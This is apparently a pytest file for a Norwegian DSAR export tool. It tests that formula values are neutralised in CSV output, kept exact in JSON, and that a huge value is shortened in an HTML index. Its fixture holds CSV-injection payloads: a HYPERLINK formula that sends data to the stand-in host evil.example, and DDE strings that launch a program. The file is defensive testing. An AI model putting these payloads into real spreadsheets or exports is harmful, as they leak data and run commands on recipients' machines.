"""Hostile values in the package: formulas neutralised in the CSV (OWASP), kept exact in the
JSON; a value of megabytes shortened in index.html with a note where the whole value is."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest

from dsar.package import build_package, generate_password
from dsar.records import Finding
from dsar.staging import Staging
from tests.test_package import LETTER_HTML, LETTER_PDF, REQUEST, _answer, _seven_zip

FORMULAS = {
    "link": '=HYPERLINK("http://evil.example/?leak="&A1,"Klikk her")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+2",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
HARMLESS = {"name": "Åse Ærlig-Øvre", "mid": "a=b", "email": "ase@example.no"}
HUGE = "Æ" + "x" * 3_000_000 + "SLUTT"


@pytest.fixture(scope="module")
def extracted(tmp_path_factory) -> Path:
    if shutil.which("7z") is None:
        pytest.skip("7z not installed")
    import os

    from dsar.crypto import DataKey

    tmp = tmp_path_factory.mktemp("hostile")
    staging = Staging(tmp / "staging", DataKey.from_secret(os.environ["DSAR_DATA_KEY"]))
    stager = staging.begin(REQUEST, "nettbutikk")
    stager.add(Finding(system="nettbutikk", collection="customers", key="=1+1",
                       fields={"id": 17, **FORMULAS, **HARMLESS, "note": HUGE, "number": -12.5},
                       matched_on=["email"]))
    for order_id in (501, 502, 503):
        stager.add(Finding(system="nettbutikk", collection="orders", key=str(order_id),
                           fields={"id": order_id, "customer_id": 17, "total": "-1.00"}, via="customers/=1+1"))
    stager.commit()
    password = generate_password()
    info = build_package(_answer(), staging, tmp / "exports" / f"innsyn-{REQUEST}.zip", password=password,
                         letter_html=LETTER_HTML, letter_pdf=LETTER_PDF)
    root = tmp / "x"
    result = _seven_zip("x", f"-p{password}", f"-o{root}", "-y", str(info.path))
    assert result.returncode == 0, result.stdout + result.stderr
    return root


def _csv_row(root: Path) -> dict[str, str]:
    text = (root / "data/nettbutikk/customers.csv").read_bytes().decode("utf-8-sig")  # CR kept
    csv.field_size_limit(10_000_000)  # the whole 3 MB value is in the CSV
    header, row = list(csv.reader(io.StringIO(text, newline="")))
    return dict(zip(header, row, strict=True))


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(extracted):
    cell = _csv_row(extracted)
    for name, value in FORMULAS.items():
        assert cell[name] == "'" + value, name
    assert cell["_source_key"] == "'=1+1"
    for name, value in HARMLESS.items():
        assert cell[name] == value
    assert cell["number"] == "-12.5"  # a number is never a formula: it stays a number
    assert cell["note"] == HUGE  # the CSV holds the whole value


def test_json_keeps_every_value_exactly(extracted):
    doc = json.loads((extracted / "data/nettbutikk/customers.json").read_text(encoding="utf-8"))
    [record] = doc["records"]
    for name, value in {**FORMULAS, **HARMLESS, "note": HUGE}.items():
        assert record[name] == value, name
    assert record["_source"]["key"] == "=1+1"


def test_a_huge_value_is_shortened_in_the_index_with_a_note(extracted):
    html = (extracted / "index.html").read_text(encoding="utf-8")
    assert len(html) < 200_000  # not the 3 MB field
    assert "Æ" + "x" * 1999 + "…" in html and "SLUTT" not in html
    assert "forkortet her: 2 000 av 3 000 006 tegn vises" in html.replace("\xa0", " ")
    assert "data/nettbutikk/customers.json" in html and "data/nettbutikk/customers.csv" in html
